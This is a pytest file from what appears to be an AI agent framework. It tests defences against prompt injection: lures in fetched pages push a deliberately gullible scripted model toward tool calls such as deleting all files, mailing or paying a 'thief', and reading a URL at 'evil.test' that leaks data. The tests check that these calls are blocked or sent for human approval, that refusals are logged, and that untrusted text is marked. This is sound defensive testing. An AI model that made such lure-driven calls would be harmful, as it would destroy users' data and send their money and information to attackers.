"""Text from outside does not make a run write or send, however gullible its model: a person is asked, or the call is not made."""

from __future__ import annotations

from typing import Any

import pytest
from agents.testing import ScriptedModel, assistant_message

from agentflow import Agent, Evidence, Flow, MemoryJournal, Planner, Result, Settings, Workflow, run
from agentflow.app import Decision, Pending
from agentflow.events import OperationFinished, OperationStarted, RunStarted
from tests.injection.corpus import LURES, Lure
from tests.injection.gullible import Bench, planning, working
from tests.steps.test_planner import turn

WRITES = ["delete_file", "send_mail", "pay"]
CALLS = {
    "delete_file": 'delete_file({"name": "all"})',
    "send_mail": 'send_mail({"to": "thief"})',
    "pay": 'pay({"to": "thief"})',
    "read_page": 'read_page({"url": "http://evil.test/?d=100"})',
}


def planner(bench: Bench) -> tuple[Workflow[Any, Any], ScriptedModel]:
    plan = Planner("plan", takes=str, gives=list[Evidence], tools=bench.tools())
    return Workflow("w", start=plan, end=plan), planning()


def agent(bench: Bench) -> tuple[Workflow[Any, Any], ScriptedModel]:
    work = Agent("work", takes=str, gives=str, prompt="Tell about tents.", tools=bench.tools())
    return Workflow("w", start=work, end=work), working()


KINDS = {"planner": planner, "agent": agent}


async def tried(kind: str, bench: Bench, allow: Any = ()) -> tuple[Result[Any], list[Pending], MemoryJournal]:
    workflow, model = KINDS[kind](bench)
    if allow:
        workflow = Workflow(
            "w", start=workflow.steps[workflow.spec.start], end=workflow.steps[workflow.spec.end], allow=allow
        )

    asked: list[Pending] = []

    async def person(pending: Pending) -> Decision:
        asked.append(pending)
        return Decision(approved=False, by="Ann", comment="who wants that?")

    journal = MemoryJournal()
    settings = Settings(journal=journal, model="scripted/m", models={"m": model}, approver=person)
    result = await run(workflow, "tell about tents", settings=settings).result()
    return result, asked, journal


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("lure", LURES, ids=lambda lure: lure.name)
async def test_no_lure_leads_to_a_write_or_an_outside_call_without_approval(lure: Lure, kind: str) -> None:
    for wanted, call in CALLS.items():
        bench = Bench(lure, call)
        result, asked, _ = await tried(kind, bench)
        assert result.status == "done", result.error
        assert [name for name, _ in bench.done if name in WRITES] == [], (lure.name, wanted)
        assert ("read_page", "http://evil.test/?d=100") not in bench.done
        assert all(pending.tool == "pay" for pending in asked)


@pytest.mark.parametrize("kind", KINDS)
async def test_the_model_is_gullible_enough_for_this_to_mean_something(kind: str) -> None:
    """Where a definition says that the pages are to be trusted, the same model does all that can be read in them."""
    for wanted, call in CALLS.items():
        obeyed = 0
        for lure in LURES:
            bench = Bench(lure, call, returns="trusted")
            _, asked, _ = await tried(kind, bench)
            obeyed += bool([d for d in bench.done[2:] if d[0] == wanted]) or any(
                p.tool == wanted for p in asked
            )

        assert obeyed == len(LURES), wanted


@pytest.mark.parametrize("kind", KINDS)
async def test_what_is_refused_is_on_the_record_and_told(kind: str) -> None:
    bench = Bench(LURES[0], CALLS["send_mail"])
    result, _, journal = await tried(kind, bench)
    events = await journal.read(result.run_id)
    mail = next(e for e in events if isinstance(e, OperationStarted) and e.name == "send_mail")
    outcome = next(e for e in events if isinstance(e, OperationFinished) and e.operation == mail.operation)
    assert outcome.error is not None
    assert outcome.error.kind == "FlowRefused"
    assert "untrusted content was read before" in outcome.error.message
    chats = [
        e.request.data for e in events if isinstance(e, OperationStarted) and e.kind == "chat" and e.request
    ]
    offered = [str(c["tools"]) + str(c["messages"][0]).partition("observations")[0] for c in chats]
    assert ["send_mail" in text for text in offered[:2]] == [True, False]
    assert all("pay" in text for text in offered)
    assert "cannot be called any more in this step" in str(chats[2]["messages"])


@pytest.mark.parametrize("kind", KINDS)
async def test_a_waiver_with_a_reason_lets_the_calls_through(kind: str) -> None:
    allow = [Flow("untrusted-to-write", because="the files are scratch"), Flow("all-three", because="a test")]
    bench = Bench(LURES[0], CALLS["delete_file"])
    await tried(kind, bench, allow)
    assert ("delete_file", "all") in bench.done


@pytest.mark.parametrize("kind", KINDS)
async def test_text_from_outside_is_marked_by_a_mark_of_its_run(kind: str) -> None:
    marks = set[str]()
    for _ in range(2):
        result, _, journal = await tried(kind, Bench(LURES[16], CALLS["send_mail"]))
        events = await journal.read(result.run_id)
        assert isinstance(events[0], RunStarted)
        assert len(events[0].nonce) == 16
        chat = [e for e in events if isinstance(e, OperationStarted) and e.kind == "chat"][1]
        assert chat.request is not None
        text = str(chat.request.data)
        mark = text.partition("<untrusted-")[2][:12]
        assert f"between <untrusted-{mark}> and </untrusted-{mark}>" in text
        assert f"<untrusted-{mark}>[" in text.replace("\\", "")
        # What nobody sees is taken out.
        assert not any(0xE0000 <= ord(c) < 0xE0080 for c in text)
        marks.add(mark)

    assert len(marks) == 2


async def test_what_comes_along_an_edge_from_outside_is_marked_and_narrows_the_tools_from_the_start() -> None:
    """An agent that is handed what another step found outside: it is told so, and offered no tool that writes."""
    bench = Bench(LURES[0], CALLS["delete_file"])
    page, file, delete, send, pay = bench.tools()
    find = Planner("find", takes=str, gives=list[Evidence], tools=[page])
    write = Agent("write", takes=list[Evidence], gives=str, prompt="Sum up.", tools=[file, delete, send, pay])
    workflow = Workflow("w", start=find, end=write, edges=[find >> write])
    assert workflow.contents == {"write": {"untrusted": frozenset({page.origin})}}

    offered: list[list[str]] = []
    inputs: list[str] = []

    def last(call: Any) -> Any:
        offered.append([t.name for t in call.tools])
        inputs.append(str(call.input) + str(call.system_instructions))
        return [assistant_message("summed up")]

    scripted = ScriptedModel(
        [
            [turn({"id": "c1", "tool": "read_page", "arguments": {"url": "http://x.test"}})],
            [turn(done=True)],
            {"responder": last},
        ]
    )
    settings = Settings(model="scripted/m", models={"m": scripted})
    assert await run(workflow, "q", settings=settings).output() == "summed up"
    assert offered == [["read_file", "pay"]]
    assert inputs[0].count("</untrusted-") == 2  # around the input, and where the mark is explained
